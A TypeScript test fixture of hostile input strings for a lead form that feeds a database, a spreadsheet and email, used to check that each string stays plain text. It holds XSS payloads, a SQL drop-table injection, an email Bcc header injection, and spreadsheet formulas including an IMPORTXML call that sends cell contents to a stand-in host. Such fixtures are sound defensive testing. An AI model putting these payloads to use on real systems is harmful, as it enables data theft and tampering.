export interface Hostile {
  /** The string as a visitor or a machine enters it. */
  given: string;
  /** If different, the string as a form sends it and the table stores it: only what a database rejects is removed or replaced. */
  sent?: string;
  /** If different, the string as a sheet cell and the message in an email show it: line breaks as \n, a tab as a space. */
  shown?: string;
}

const AS_GIVEN = (
  '<script>alert(1)</script>¦"><img src=x onerror=alert(1)>¦</script><svg/onload=1>¦javascript:alert(1)¦{{7*7}} ${7*7}¦' +
  '=HYPERLINK("http://x","y")¦=IMPORTXML("http://x/?"&A1,"//a")¦-2+3¦@SUM(1)¦\n=1¦ =1¦\u00a0=1¦＝1¦\'=1¦' +
  '+971 50 123 4567¦+971501234567¦0¦007¦1e309¦1e3¦2026-02-31¦2026-02-01¦TRUE¦NaN¦null¦undefined¦' +
  '"; drop table lead_form;--¦%00¦a@b.c, d@e.f¦% _ \\ * ( ) . , " \' &¦__proto__¦constructor¦' +
  `right \u202e left¦zero\u200dwidth\u200b¦فاطمة الزهراء¦👩‍👩‍👧‍👦 İstanbul Straße¦${'x'.repeat(1001)}¦a${'\u0301'.repeat(900)}`
).split('¦');

/** None of these strings may be refused, and all must remain plain text wherever they are shown. */
export const HOSTILE: readonly Hostile[] = [
  ...AS_GIVEN.map((given) => ({ given })),
  { given: '\t=1', shown: ' =1' },
  { given: '\r=1', shown: '\n=1' },
  { given: 'x\r\nBcc: a@b.c', shown: 'x\nBcc: a@b.c' },
  { given: 'a\u0000b', sent: 'ab', shown: 'ab' },
  { given: 'a\ufffeb', sent: 'ab', shown: 'ab' },
  { given: 'lone \ud800 half', sent: 'lone \ufffd half', shown: 'lone \ufffd half' },
];
